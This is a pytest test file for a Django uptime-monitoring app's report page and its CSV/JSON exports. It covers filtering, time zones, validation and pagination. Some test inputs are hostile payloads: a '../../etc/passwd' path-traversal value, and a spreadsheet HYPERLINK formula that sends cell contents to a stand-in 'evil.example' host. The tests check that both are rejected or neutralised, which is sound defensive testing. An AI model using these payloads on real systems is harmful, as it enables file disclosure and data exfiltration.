"""The page of a report, and what it gives as CSV and JSON."""

import csv
import json
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from monitors.domain.report_ranges import Preset
from monitors.domain.result import Status
from monitors.models import Service
from monitors.tests.clock import NOON
from monitors.tests.factories import a_service, checked

pytestmark = pytest.mark.django_db

# The first of March, on which there was an outage of a minute at noon; what came after is unknown.
DAY = {"period": "custom", "first": "2026-03-01", "last": "2026-03-01"}


def an_outage(**settings: Any) -> Service:
    return checked(a_service(failures_before_down=1, **settings), Status.UP, Status.DOWN, Status.UP)


def page(client: Client, **query: Any) -> str:
    answer = client.get("/reports/", DAY | query)
    assert answer.status_code == 200
    return " ".join(answer.content.decode().split())


def table(client: Client, **query: Any) -> list[dict[str, str]]:
    answer = client.get("/reports/uptime.csv", DAY | query)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(answer.getvalue().decode().splitlines()))


def test_strangers_see_nothing(client: Client) -> None:
    for path in ("/reports/", "/reports/uptime.csv", "/reports/uptime.json"):
        assert client.get(path).status_code == 302


def test_where_there_are_no_services_one_can_be_added(signed_in: Client) -> None:
    assert "Add the first service" in page(signed_in)


def test_by_default_last_month_of_all_services(signed_in: Client) -> None:
    a_service(now=timezone.now() - timedelta(days=200))
    answer = signed_in.get("/reports/")
    expected = Preset.LAST_MONTH.range(timezone.now(), timezone.get_default_timezone())
    assert answer.context["range"] == expected
    assert f"<h1>Uptime report: {expected.label}</h1>" in answer.content.decode()
    assert "so there are no figures" in answer.content.decode()


def test_the_figures_and_what_they_come_to(signed_in: Client) -> None:
    an_outage(name="Shop <b>", tags=["eu"])
    shown = page(signed_in)
    for said in (
        "<h1>Uptime report: 1 March 2026</h1>",
        "1 Mar 2026, 00:00 to 2 Mar 2026, 00:00 (UTC) · target 99.9 %",
        "The service missed the target of 99.9 %.",
        "and down for 1 min, with 1 incident; recovery took 1 min.",
        "Shop &lt;b&gt;</a>",
    ):
        assert said in shown


def test_the_worst_stand_first_or_all_by_name(signed_in: Client) -> None:
    checked(a_service(name="A"), Status.UP)
    an_outage(name="B")

    def names(**query: str) -> list[str]:
        rows = signed_in.get("/reports/", DAY | query).context["page"].rows
        return [row.line.name for row in rows]

    assert (names(), names(order="name")) == (["B", "A"], ["A", "B"])


def test_tags_and_chosen_services(signed_in: Client) -> None:
    an_outage(name="Shop", tags=["eu"])
    mail = an_outage(name="Mail")
    an_outage(name="Other", tags=["us"])
    assert [row["service"] for row in table(signed_in)] == ["Mail", "Other", "Shop"]
    chosen = table(signed_in, tags="eu, nobody", services=[mail.pk])
    assert [row["service"] for row in chosen] == ["Mail", "Shop"]
    assert [row["service"] for row in table(signed_in, others="Mail")] == ["Mail"]
    shown = page(signed_in, tags="eu", services=[mail.pk])
    assert "Only services tagged eu, and 1 chosen service" in shown
    assert "No service matches" in page(signed_in, tags="nobody")


def test_the_zone_says_when_a_day_is(signed_in: Client) -> None:
    an_outage()
    shown = page(signed_in, zone="Pacific/Kiritimati")
    assert "1 Mar 2026, 00:00 to 2 Mar 2026, 00:00 (Pacific/Kiritimati)" in shown
    # There it was the second of March by then.
    assert "so there are no figures" in shown
    (row,) = table(signed_in, zone="Pacific/Kiritimati")
    assert (row["from"], row["to"]) == ("2026-02-28T10:00:00.000Z", "2026-03-01T10:00:00.000Z")


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"period": "for ever"}, "period"),
        ({"first": ""}, "first"),
        ({"last": ""}, "last"),
        ({"last": "2026-02-28"}, "last"),
        ({"first": "1066-10-14"}, "first"),
        ({"last": "9999-12-31"}, "last"),
        ({"first": "yesterday"}, "first"),
        ({"zone": "Mars/Olympus"}, "zone"),
        ({"zone": "../../etc/passwd"}, "zone"),
        *(({"target": value}, "target") for value in ("0", "-1", "100.01", "nan", "inf", "x")),
        ({"order": "random"}, "order"),
        ({"tags": ",".join(map(str, range(21)))}, "tags"),
        ({"services": "999"}, "services"),
        ({"services": "9" * 30}, "services"),
        ({"others": "Nobody"}, "others"),
    ],
)
def test_what_makes_no_sense_is_said_where_it_stands(
    signed_in: Client, query: dict[str, str], field: str
) -> None:
    a_service()
    answer = signed_in.get("/reports/", DAY | query)
    assert list(answer.context["form"].errors) == [field]
    assert "No report" in answer.content.decode()
    for path in ("/reports/uptime.csv", "/reports/uptime.json"):
        assert signed_in.get(path, DAY | query).status_code == 400


def test_days_are_not_asked_for_where_a_range_has_a_name(signed_in: Client) -> None:
    query = {"period": "last-week", "first": "2026-03-02", "last": "2026-03-01"}
    assert signed_in.get("/reports/", query).context["form"].errors == {}


def test_a_table_holds_no_formula(signed_in: Client) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    an_outage(name=formula, tags=["+1", "eu"])
    (row,) = table(signed_in)
    assert (row["service"], row["tags"]) == (f"'{formula}", "'+1, eu")
    # A figure is a figure, also where it is below zero.
    assert float(row["error_budget_left_s"]) < 0
    assert (row["incidents"], row["mttr_s"], row["down_s"]) == ("1", "60.0", "60.0")


def test_what_is_not_known_is_an_empty_cell(signed_in: Client) -> None:
    a_service()
    (row,) = table(signed_in)
    assert [row[name] for name in ("uptime_percent", "mttr_s", "error_budget_left_s")] == [""] * 3


def test_exports_are_named_by_their_days(signed_in: Client) -> None:
    for ending in ("csv", "json"):
        answer = signed_in.get(f"/reports/uptime.{ending}", DAY | {"last": "2026-03-31"})
        name = f"uptime-2026-03-01-to-2026-03-31.{ending}"
        assert answer["Content-Disposition"] == f'attachment; filename="{name}"'


def test_the_json_is_that_of_the_api(signed_in: Client, api: Client) -> None:
    an_outage(tags=["eu"])
    exported = json.loads(signed_in.get("/reports/uptime.json", DAY).content)
    window = {"from": "2026-03-01T00:00:00Z", "to": "2026-03-02T00:00:00Z"}
    assert exported == api.get("/api/v1/reports/uptime", window).json()


def test_a_page_holds_a_hundred_and_a_table_all(
    signed_in: Client, django_assert_num_queries: Any
) -> None:
    for number in range(101):
        a_service(name=f"S{number:03}")
    first = signed_in.get("/reports/", DAY | {"order": "name"})
    assert [len(first.context["page"].rows), first.context["page"].pages] == [100, 2]
    assert "All 101 on one page" in first.content.decode()
    last = signed_in.get("/reports/", DAY | {"order": "name", "page": "999"})
    assert [row.line.name for row in last.context["page"].rows] == ["S100"]
    whole = signed_in.get("/reports/", DAY | {"all": ""})
    assert len(whole.context["page"].rows) == 101
    assert "on one page" not in whole.content.decode()
    assert len(table(signed_in)) == 101


def test_many_services_take_the_queries_of_one(
    signed_in: Client, django_assert_num_queries: Any
) -> None:
    for count in (1, 2):
        for _ in range(count):
            an_outage(tags=["a", "b"], now=NOON)
        with django_assert_num_queries(15):
            page(signed_in, tags="a")


def test_a_range_without_an_end_yet_ends_now(signed_in: Client) -> None:
    a_service(now=datetime.now(tz=timezone.get_default_timezone()) - timedelta(days=100))
    for period in ("this-week", "this-month", "this-quarter"):
        covered = signed_in.get("/reports/", {"period": period}).context["range"]
        assert covered.start <= covered.end <= timezone.now()


def test_the_page_of_a_service_leads_to_its_report(signed_in: Client) -> None:
    service = an_outage(name="Shop")
    an_outage(name="Other")
    link = f"/reports/?services={service.pk}"
    assert link in signed_in.get(f"/services/{service.pk}/").content.decode()
    rows = signed_in.get(link).context["page"].rows
    assert [row.line.name for row in rows] == ["Shop"]
